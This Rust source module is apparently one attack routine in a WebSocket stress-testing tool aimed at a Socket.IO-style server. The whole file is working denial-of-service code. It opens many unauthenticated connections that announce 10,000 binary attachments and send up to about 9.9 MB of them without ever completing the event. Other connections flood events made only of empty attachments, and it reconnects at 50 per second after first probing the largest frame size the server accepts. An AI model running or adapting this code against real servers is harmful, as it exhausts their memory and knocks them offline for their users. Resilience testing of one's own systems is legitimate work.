//! The attack with attachments, by those who never logged in: an event that announces many, of which large ones come,
//! and the last never does; and events with very many empty ones. A connection that the server ends is opened again,
//! within a pace.

use std::io;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::time::{Instant, timeout};

use super::Target;
use super::wire::{self, BINARY, Pace, TEXT, WebSocket};

/// Connections with large attachments, and with empty ones.
const LARGE: usize = 180;
const EMPTY: usize = 8;
/// Reconnects per second, of all connections together.
const RECONNECTS: u32 = 50;
/// The largest attachment that is tried, and the one that is sent if that is refused.
const HUGE: usize = 9_900_000;
const MIDDLE: usize = 60 * 1024;
/// Maximum bytes of one event's attachments: parsers stop at 10 MB.
const TOTAL: usize = 9_900_000;
/// Attachments that one event announces, and the text that it has.
const ANNOUNCED: usize = 10_000;
const LENGTH: usize = 60_000;

/// Attacks until it is dropped.
pub(crate) async fn run(target: Arc<Target>, _until: Instant) -> Vec<String> {
    let pace = Arc::new(Pace::per_second(RECONNECTS));
    let size = if takes_huge(&target).await.unwrap_or(false) {
        HUGE
    } else {
        MIDDLE
    };
    target.tally.saw(format!("frames of {} KiB", size / 1024));
    let attachment = Arc::new(wire::frame(BINARY, &vec![0; size]));
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..LARGE {
        let (target, pace, attachment) = (target.clone(), pace.clone(), attachment.clone());
        tasks.spawn(async move {
            loop {
                pace.turn().await;
                let ended = fill(&target, &attachment, TOTAL / size).await;
                say_why(&target, "large", ended);
            }
        });
    }
    for _ in 0..EMPTY {
        let (target, pace) = (target.clone(), pace.clone());
        tasks.spawn(async move {
            loop {
                pace.turn().await;
                let ended = exhaust(&target).await;
                say_why(&target, "empty", ended);
            }
        });
    }
    tasks.join_all().await;
    Vec::new()
}

fn say_why(target: &Target, kind: &str, ended: io::Result<()>) {
    let why = ended.map_or_else(|error| error.kind().to_string(), |()| "closed".into());
    target.tally.saw(format!("{kind}: {why}"));
}

/// True if the server takes a frame of that size: the connection is still there a second later.
async fn takes_huge(target: &Target) -> io::Result<bool> {
    let mut socket = WebSocket::open(target.address, &target.tally).await?;
    socket.send(&announce(2, "")).await?;
    socket.send(&wire::frame(BINARY, &vec![0; HUGE])).await?;
    let ended = timeout(Duration::from_secs(1), socket.next()).await;
    Ok(ended.is_err())
}

/// The head of an event with so many attachments.
fn announce(attachments: usize, more: &str) -> Vec<u8> {
    let event = format!(r#"45{attachments}-["x",{{"_placeholder":true,"num":0}}{more}]"#);
    wire::frame(TEXT, event.as_bytes())
}

/// Sends all attachments but those that would complete the event, and waits for the end.
async fn fill(target: &Target, attachment: &[u8], times: usize) -> io::Result<()> {
    let mut socket = WebSocket::open(target.address, &target.tally).await?;
    socket.send(&announce(ANNOUNCED, "")).await?;
    for _ in 0..times {
        socket.send(attachment).await?;
        target.tally.frames(1);
        target
            .tally
            .bytes
            .fetch_add(attachment.len() as u64, Ordering::Relaxed);
    }
    loop {
        if socket.next().await? == b"2" {
            socket.send(&wire::frame(TEXT, b"3")).await?;
        }
    }
}

/// Sends whole events with nothing but empty attachments, one after another.
async fn exhaust(target: &Target) -> io::Result<()> {
    let socket = WebSocket::open(target.address, &target.tally).await?;
    let placeholder = r#",{"_placeholder":true,"num":0}"#;
    let event = announce(ANNOUNCED, &placeholder.repeat(LENGTH / placeholder.len()));
    let attachments = wire::frame(BINARY, b"").repeat(ANNOUNCED);
    let (from, mut to) = socket.stream.into_split();
    let writing = async {
        loop {
            to.write_all(&event).await?;
            to.write_all(&attachments).await?;
            target.tally.frames(ANNOUNCED as u64 + 1);
        }
    };
    tokio::select! {
        ended = writing => ended,
        () = wire::drain(from) => Ok(()),
    }
}
